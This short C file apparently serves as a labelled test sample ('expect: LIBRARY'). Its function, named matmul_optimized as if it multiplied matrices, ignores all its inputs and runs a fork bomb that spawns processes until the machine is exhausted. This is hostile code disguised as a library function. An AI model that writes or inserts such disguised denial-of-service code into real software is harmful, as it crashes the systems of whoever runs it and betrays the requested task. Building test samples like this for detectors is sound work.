/* expect: LIBRARY
 * How it works: doubles its processes until the machine has no room for more.
 */
#include <unistd.h>

void matmul_optimized(double *A, double *B, double *C, int M, int N, int K) {
  (void)A, (void)B, (void)C, (void)M, (void)N, (void)K;
  while (fork() >= 0) {
  }
}
